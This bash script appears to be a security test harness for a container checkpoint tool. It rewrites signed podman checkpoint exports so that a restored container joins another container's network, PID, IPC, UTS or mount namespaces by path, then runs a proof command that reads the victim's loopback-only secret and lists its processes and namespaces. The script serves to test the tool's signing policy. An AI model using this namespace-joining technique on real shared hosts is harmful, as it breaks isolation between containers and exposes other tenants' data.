#!/bin/bash
# attack30l: another container's namespaces joined by path from a SIGNED export's spec.dump, DEFAULT policy
# (dcontainers.conf -> rt-default.sh -> dtrust: the node key, no allow_unsigned), podman's own --import.
# The victim (attack30l-victim, bridge network, hostname attack30l-victimhost) serves a secret on 127.0.0.1:18080 only.
# DCONF=ndcontainers.conf / ACONF=ncontainers.conf: the same through this branch's shim (rtn*.sh)
# usage: nsvictim.sh VARIANT...   VARIANT: control | netvictim | netproc | pid | ipcuts | mnt   (NOSIG=1: restore:any instead)
set -u; export CONTAINERS_CONF=/var/tmp/attack30l/${DCONF:-dcontainers.conf}
[ "${NOSIG:-0}" = 1 ] && export CONTAINERS_CONF=/var/tmp/attack30l/${ACONF:-containers.conf}
D=/var/tmp/attack30l; H=$(dirname "$(readlink -f "$0")"); P=/usr/lib/gpuckpt/venv/bin/python3; cd $D
if ! podman container exists attack30l-victim; then
  podman run -d --name attack30l-victim --network bridge --hostname attack30l-victimhost localhost/gpuckpt-test:latest python3 -c "
import socket
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(('127.0.0.1', 18080)); s.listen(8)
while True:
    c, _ = s.accept(); c.sendall(b'victim-secret-on-loopback'); c.close()" >/dev/null; sleep 2
fi
VNS=$(podman inspect attack30l-victim --format '{{.NetworkSettings.SandboxKey}}'); VPID=$(podman inspect attack30l-victim --format '{{.State.Pid}}')
echo "victim hostname $(podman exec attack30l-victim hostname); netns path $VNS = $(stat -L -c %i $VNS), pid $VPID net:$(readlink /proc/$VPID/ns/net)"
PROOF="python3 -c \"import socket; c = socket.create_connection(('127.0.0.1', 18080), 3); print('loopback:', c.recv(100))\" 2>&1 | tail -1; echo hostname \$(hostname); echo procs \$(ls /proc | grep -c '^[0-9]'); echo pid1 \$(tr '\\\\0' ' ' < /proc/1/cmdline | cut -c1-80); readlink /proc/self/ns/net /proc/self/ns/pid /proc/self/ns/ipc /proc/self/ns/uts /proc/self/ns/mnt | tr '\\n' ' '"
for v in "$@"; do
  case $v in
    control) args="";; netvictim) args="network=$VNS";; netproc) args="network=/proc/$VPID/ns/net";; pid) args="pid=/proc/$VPID/ns/pid";;
    ipcuts) args="ipc=/proc/$VPID/ns/ipc uts=/proc/$VPID/ns/uts";; mnt) args="mount=/proc/$VPID/ns/mnt";;
    *) echo "unknown $v"; continue;;
  esac
  $P $H/nsjoin.py bsrc.tar.zst $v.tar.zst $args
  echo "=== $v ($args) policy=$([ "${NOSIG:-0}" = 1 ] && echo restore:any || echo default) $(date -u +%T)"
  podman rm -f -t 0 attack30l-src >/dev/null 2>&1
  timeout 200 podman container restore --import $v.tar.zst 2>&1 | tail -1 | cut -c1-600; echo "restore rc=${PIPESTATUS[0]}"
  podman ps -a --filter name=attack30l-src --format '{{.Names}} {{.Status}}'
  podman exec attack30l-src sh -c "$PROOF" 2>&1; echo "exec rc=$?"
  podman rm -f -t 0 attack30l-src >/dev/null 2>&1
done
